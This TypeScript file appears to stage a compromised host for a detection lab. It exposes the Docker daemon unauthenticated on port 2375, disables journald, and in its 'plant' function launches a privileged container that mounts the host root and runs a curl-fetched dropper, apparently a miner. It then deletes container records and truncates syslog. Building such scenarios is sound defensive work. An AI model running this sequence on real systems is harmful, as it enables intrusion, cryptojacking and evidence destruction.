// dockerd still listens to everybody, and the miner still lies in the control group of a container that no longer exists.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  dress.write('/etc/systemd/journald.conf.d/none.conf', '[Journal]\nStorage=none\n')
  dress.toy({
    unit: 'docker',
    user: 'root',
    exe: '/usr/bin/dockerd',
    title: '/usr/bin/dockerd -H tcp://0.0.0.0:2375',
    home: '/var/lib/docker',
    play: 'docker',
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/usr/bin/.d/docker-cache', fetch: 'curl', cron: false })
  stage.mark('occurrence')
  const container = { Image: 'alpine:latest', Cmd: ['/bin/sh', '-c', line], HostConfig: { Binds: ['/:/mnt'], Privileged: true } }
  const said = await stage.http('203.0.113.181', ':2375/v1.24/containers/create', JSON.stringify(container), {
    'Content-Type': 'application/json',
  })
  await stage.http('203.0.113.181', `:2375/v1.24/containers/${(JSON.parse(said) as { Id: string }).Id}/start`, '')
  await stage.inside(
    'sleep 1; rm -rf /var/lib/docker/containers; for f in /var/log/syslog /var/log/daemon.log; do [ ! -e $f ] || : >$f; done',
  )
}
